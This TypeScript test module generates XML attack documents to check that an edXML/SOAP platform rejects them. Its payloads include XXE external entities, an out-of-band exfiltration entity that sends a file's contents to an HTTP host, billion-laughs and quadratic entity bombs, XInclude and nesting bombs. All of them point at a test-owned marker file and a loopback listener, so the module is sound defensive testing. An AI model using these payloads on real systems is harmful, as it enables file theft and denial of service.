/**
 * XML attacks on any XML surface (edXML packages, the population SOAP): DOCTYPEs with external entities
 * (file:// and http:// SYSTEM ids, PUBLIC ids, parameter entities, out-of-band exfiltration), entity
 * expansion (billion laughs, quadratic blow-up), DTD declarations in odd places, XInclude, undefined
 * entities and nesting bombs. The SYSTEM ids point at a marker file and a loopback listener the test owns,
 * so "the file was never read" and "nothing was fetched" can be asserted, not assumed.
 */
import type { Rng } from './rng.js';

export interface Marker {
  /** `file:///…/marker.txt`: its content must never appear in a reply. */
  fileUrl: string;
  /** `http://127.0.0.1:<port>`: a listener that counts every request it gets (there must be none). */
  httpBase: string;
}

export interface XmlAttack {
  name: string;
  /** The attacked document. */
  text: string;
  /** What kind of refusal fits: the DTD guard, the well-formedness check, the nesting limit, or content checks. */
  kind: 'dtd' | 'malformed' | 'deep' | 'content';
}

/**
 * Splits a document at its XML declaration, so a DOCTYPE can go where XML puts it. `ref` places an entity
 * reference (or any markup) in a text field the platform reads.
 */
export interface Target {
  text: string;
  /** The document with `markup` as the content of a field the platform reads (edXML Subject, SOAP SoDinhDanh). */
  withContent(markup: string): string;
  /** Root element name as written (DOCTYPE names it). */
  rootName: string;
}

function splitDecl(text: string): { decl: string; rest: string } {
  const m = /^(\uFEFF?[^<]*<\?xml[^?]*\?>)/.exec(text);
  return m ? { decl: m[1]!, rest: text.slice(m[1]!.length) } : { decl: '', rest: text };
}

function withDoctype(target: Target, doctype: string, content?: string): string {
  const doc = content === undefined ? target.text : target.withContent(content);
  const { decl, rest } = splitDecl(doc);
  return `${decl}\n${doctype}${rest}`;
}

/** The XXE / entity-expansion / DTD variants of one document; `n` numbers the http ids so each is distinct. */
export function xmlAttacks(target: Target, marker: Marker, rng: Rng): XmlAttack[] {
  const r = target.rootName;
  const hit = (what: string) => `${marker.httpBase}/xxe/${what}-${rng.string.alphanumeric(8)}`;
  const out: XmlAttack[] = [];
  const add = (name: string, text: string, kind: XmlAttack['kind'] = 'dtd') => out.push({ name, text, kind });

  add('external entity file://', withDoctype(target, `<!DOCTYPE ${r} [<!ENTITY xxe SYSTEM "${marker.fileUrl}">]>`, '&xxe;'));
  add('external entity http://', withDoctype(target, `<!DOCTYPE ${r} [<!ENTITY xxe SYSTEM "${hit('sys')}">]>`, '&xxe;'));
  add('external entity PUBLIC id', withDoctype(target, `<!DOCTYPE ${r} [<!ENTITY xxe PUBLIC "-//LIENTHONG//XXE//EN" "${marker.fileUrl}">]>`, '&xxe;'));
  add('parameter entity http://', withDoctype(target, `<!DOCTYPE ${r} [<!ENTITY % dtd SYSTEM "${hit('pe')}"> %dtd;]>`));
  add('parameter entity file://', withDoctype(target, `<!DOCTYPE ${r} [<!ENTITY % dtd SYSTEM "${marker.fileUrl}"> %dtd;]>`));
  add(
    'out-of-band exfiltration',
    withDoctype(
      target,
      `<!DOCTYPE ${r} [<!ENTITY % file SYSTEM "${marker.fileUrl}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '${hit('oob')}?d=%file;'>">%eval;%exfil;]>`,
    ),
  );
  add('external DTD file://', withDoctype(target, `<!DOCTYPE ${r} SYSTEM "${marker.fileUrl}">`));
  add('external DTD http://', withDoctype(target, `<!DOCTYPE ${r} SYSTEM "${hit('dtd')}">`));
  add('external DTD PUBLIC', withDoctype(target, `<!DOCTYPE ${r} PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "${hit('pub')}">`));
  add('lower-case doctype', withDoctype(target, `<!doctype ${r} [<!ENTITY xxe SYSTEM "${marker.fileUrl}">]>`, '&xxe;'));
  add('doctype with newlines', withDoctype(target, `<!DOCTYPE\n  ${r}\n  [\n<!ENTITY\n xxe\n SYSTEM\n "${marker.fileUrl}"\n>\n]\n>`, '&xxe;'));
  add('ENTITY without DOCTYPE', withDoctype(target, `<!ENTITY xxe SYSTEM "${marker.fileUrl}">`, '&xxe;'));
  add('ELEMENT declaration', withDoctype(target, `<!DOCTYPE ${r} [<!ELEMENT ${r} ANY>]>`));
  add('ATTLIST default attribute', withDoctype(target, `<!DOCTYPE ${r} [<!ATTLIST ${r} injected CDATA "${rng.lorem.word()}">]>`));
  add('internal entity', withDoctype(target, `<!DOCTYPE ${r} [<!ENTITY v "${rng.person.fullName()}">]>`, '&v;'));

  // Billion laughs: `depth` levels of `width` references each (width^depth expansions).
  const width = rng.number.int({ min: 5, max: 12 });
  const depth = rng.number.int({ min: 6, max: 12 });
  const ents = ['<!ENTITY l0 "lol">'];
  for (let i = 1; i <= depth; i++) ents.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(width)}">`);
  add(`billion laughs ${width}^${depth}`, withDoctype(target, `<!DOCTYPE ${r} [${ents.join('')}]>`, `&l${depth};`));
  // Quadratic blow-up: one large entity referenced many times (size × count characters once expanded).
  const size = rng.number.int({ min: 2_000, max: 40_000 });
  const count = rng.number.int({ min: 200, max: 2_000 });
  add(`quadratic blow-up ${size}×${count}`, withDoctype(target, `<!DOCTYPE ${r} [<!ENTITY a "${'A'.repeat(size)}">]>`, '&a;'.repeat(count)));

  // A DOCTYPE where no prolog is: before the XML declaration, after the root, inside the root.
  add('doctype before the declaration', `<!DOCTYPE ${r} [<!ENTITY xxe SYSTEM "${marker.fileUrl}">]>\n${target.withContent('&xxe;')}`);
  add('doctype after the root', `${target.text}\n<!DOCTYPE ${r} [<!ENTITY xxe SYSTEM "${marker.fileUrl}">]>`);
  add('doctype inside the root', target.withContent(`<!DOCTYPE x [<!ENTITY xxe SYSTEM "${marker.fileUrl}">]>&xxe;`), 'malformed');

  // No DTD at all: references that only a DTD could define.
  add('undefined entity', target.withContent('&xxe;'), 'malformed');
  // XInclude is a separate processing step: a parser that performed it would fill the field with the file.
  add('XInclude file://', target.withContent(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${marker.fileUrl}" parse="text"/>`), 'content');
  add('XInclude http://', target.withContent(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${hit('xi')}" parse="text"/>`), 'content');
  return out;
}

/** Nesting bombs: `depth` levels of one element name around the field's content (balanced, so only depth is wrong). */
export function nestingBomb(target: Target, depth: number, name: string, rng: Rng): XmlAttack {
  const inner = rng.lorem.word();
  return { name: `nesting ${depth} <${name}>`, text: target.withContent(`<${name}>`.repeat(depth) + inner + `</${name}>`.repeat(depth)), kind: 'deep' };
}
